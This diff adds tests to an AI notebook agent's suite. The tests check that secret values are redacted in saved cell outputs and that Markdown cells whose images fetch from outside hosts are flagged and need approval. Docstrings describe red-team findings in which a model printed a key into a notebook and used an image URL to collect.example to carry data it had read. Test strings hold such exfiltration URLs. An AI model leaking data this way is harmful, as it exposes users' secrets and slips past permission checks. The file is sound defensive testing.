@@ -116,6 +116,26 @@ async def test_run_puts_the_outputs_in_the_document(front, tools, tmp_path):
     assert front.cells[1]["outputs"] == [{"output_type": "stream", "name": "stdout", "text": "42\n"}]
 
 
+async def test_a_run_writes_its_outputs_into_the_document_redacted(front, tools, tmp_path):
+    """notebook_run's outputs are written into the cell by nbagent (the bridge), as a materialised
+    cell's are, and saved with the notebook: redacted like them. The model (or an MCP client) that
+    edited a cell to print the key and ran it left the key in the notebook's file (attacker pass 10)."""
+    from nbagent.engine.loop.sanitize import Sanitizer
+
+    secret = "Zq8rT2vLx9Wm4Kp7Hs3N"
+    shell = InteractiveShell.instance()
+    shell.user_ns["db"] = {"password": secret}
+    front.cells[1]["source"] = ("import sys\nprint(db['password'])\nprint(db, file=sys.stderr)\n"
+                                "display({'text/html': '<b>' + db['password'] + '</b>', 'text/plain': 'pw'}, raw=True)\n"
+                                "raise ValueError(db['password'])")
+    redacting = ToolContext(cwd=tmp_path, turn=3, tool_use_id="toolu_1", executor=ShellExecutor(shell),
+                            redact=Sanitizer((secret,)).redact)
+    out = await tools["notebook_run"].run({"cell_id": "c2"}, redacting)
+    assert out.is_error
+    saved = str(front.cells[1]["outputs"])
+    assert secret not in saved and "[redacted]" in saved and "ValueError" in saved
+
+
 async def test_a_cell_the_agent_ran_is_logged_with_the_text_it_ran(front, tmp_path):
     # No post_run_cell hook sees notebook_run: without this, the text the user last ran stayed the
     # cell's among the cells in context, and a replay called the cell changed once fixed.
@@ -199,6 +219,47 @@ async def test_an_edit_previews_the_cell_as_it_is_and_as_it_will_be(front, tools
     move = await preview(tools, "notebook_edit", tmp_path, action="move", cell_id="c3", index=0)
     assert move.summary == "move cell 2 (id c3, code) to index 0" and move.before == move.after == "plot()"
     assert front.sources() == ["# Sales", "x = 40", "plot()"]  # a preview changes nothing
+
+
+async def test_an_edit_preview_names_the_hosts_a_markdown_cell_will_fetch_from(front, tools, tmp_path):
+    """A Markdown cell is rendered by JupyterLab, which keeps ``<img src="https://…">``: the agent view
+    shows the model's images as links, but a cell it writes made the page fetch a URL that can carry
+    what the model read (attacker pass 10). The question says so; a link or a local image does not."""
+    await call(tools, "notebook_read", tmp_path)
+    leak = "## Summary\n![chart](https://collect.example/c.png?d=north-41-south-2)"
+    insert = await preview(tools, "notebook_edit", tmp_path, action="insert", cell_id="c1", source=leak,
+                           cell_type="markdown")
+    assert "the page fetches from collect.example" in insert.summary
+    replace = await preview(tools, "notebook_edit", tmp_path, action="replace", cell_id="c2", cell_type="markdown",
+                            source='<img src="//cdn.example/x.png">')
+    assert "fetches from cdn.example" in replace.summary
+    for quiet in ("See [the docs](https://docs.example) and ![plot](plot.png)", "![x](https://a.example/x.png)"):
+        shown = await preview(tools, "notebook_edit", tmp_path, action="insert", cell_id="c1", source=quiet,
+                              cell_type="markdown" if "docs" in quiet else "code")
+        assert "fetches" not in shown.summary
+
+
+async def test_a_markdown_cell_that_fetches_asks_even_when_notebook_edit_is_allowed(tools):
+    """With notebook_edit allowed (the allow list, or "Allow always"), the model inserted a Markdown cell
+    whose image URL carried what it read, and nobody was asked (attacker pass 10). Such an edit asks each
+    time, as a protected write does; with no one to ask it is refused. Other edits keep the allowance."""
+    from nbagent.engine.contracts.permissions import Allow, Deny, PermissionGate
+
+    edit = tools["notebook_edit"]
+    leak = {"action": "insert", "cell_type": "markdown", "source": "![c](https://collect.example/c.png?d=41)"}
+    plain = {"action": "insert", "cell_type": "markdown", "source": "## Summary\nsee [the docs](https://x.org)"}
+
+    async def ask(*_args: Any) -> Any:
+        return Allow()
+
+    gate = PermissionGate(ask, allow=["notebook_edit"])
+    assert gate.will_ask(edit, leak) and "collect.example" in (gate.protected_reason(edit, leak) or "")
+    assert not gate.will_ask(edit, plain) and not gate.will_ask(edit, {**leak, "cell_type": "code"})
+    gate.allow_always("notebook_edit")
+    assert gate.will_ask(edit, leak)
+    unattended = PermissionGate(None, allow=["notebook_edit"])
+    decision = await unattended.check(edit, "toolu_1", leak, 1)
+    assert isinstance(decision, Deny) and "collect.example" in decision.reason
 
 
 async def test_an_edit_preview_warns_when_the_cell_is_not_what_the_model_read(front, tools, tmp_path):
